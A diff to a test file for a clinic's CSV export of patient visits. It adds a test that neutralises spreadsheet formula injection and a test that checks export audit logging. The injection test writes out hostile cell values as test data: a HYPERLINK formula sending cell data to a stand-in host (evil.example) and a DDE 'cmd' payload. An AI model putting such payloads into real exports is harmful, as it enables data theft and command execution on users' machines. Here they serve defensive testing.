@@ -39,8 +39,10 @@ def test_exports_one_row_per_visit(nurse, patient, clinic_a, patient_b, outsider
     (row,) = rows(response)
     assert row["mrn"] == "A001" and row["tier"] == "emergency"
     assert row["flag_codes"] == "ALP_ELEVATED HYPERCALCAEMIA_LAB MSCC_SUSPECTED"
-    assert (row["calcium"], row["albumin"], row["alp"]) == ("3.2 mmol/L", "30 g/L", "300 U/L")
-    assert (row["corrected_calcium"], row["corrected_calcium_converted"]) == ("3.4 mmol/L", "13.6 mg/dL")
+    assert (row["calcium"], row["calcium_unit"], row["albumin"], row["albumin_unit"]) == ("3.2", "mmol/L", "30", "g/L")
+    assert (row["alp"], row["alp_unit"]) == ("300", "U/L")
+    assert (row["corrected_calcium"], row["corrected_calcium_unit"]) == ("3.4", "mmol/L")
+    assert (row["corrected_calcium_converted"], row["corrected_calcium_converted_unit"]) == ("13.6", "mg/dL")
     assert (row["calcium_ctcae_grade"], row["alp_ctcae_grade"], row["alp_ratio"]) == ("3", "1", "2.041")
     assert row["imaging"] == "mri: whole spine (emergency)"
 
@@ -55,3 +57,24 @@ def test_anonymous_goes_to_login(client, clinic_a):
 
 def test_wrong_method(nurse, clinic_a):
     assert login(nurse).post(url(clinic_a)).status_code == 405
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_a_spreadsheet_would_run_are_neutralised(nurse, clinic_a, start):
+    """A patient named =HYPERLINK(…) must open as text in Excel, not run (OWASP "CSV injection")."""
+    from tests.conftest import make_patient
+
+    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    patient = make_patient(clinic_a, mrn=f"{start}cmd|' /C calc'!A0", family_name=evil, given_name="Eve")
+    services.record_visit(patient=patient, seen_by=nurse, entry=VisitEntry(visit_date=TODAY, answers=all_no()))
+    (row,) = rows(login(nurse).get(url(clinic_a)))
+    assert row["family_name"] == "'" + evil
+    assert row["mrn"].startswith("'" + start)
+    assert row["given_name"] == "Eve"
+
+
+def test_the_export_is_a_security_event(nurse, clinic_a):
+    from checklists.models import SecurityEvent
+
+    b"".join(login(nurse).get(url(clinic_a)).streaming_content)
+    assert SecurityEvent.objects.filter(action="export_visits", clinic=clinic_a).count() == 1
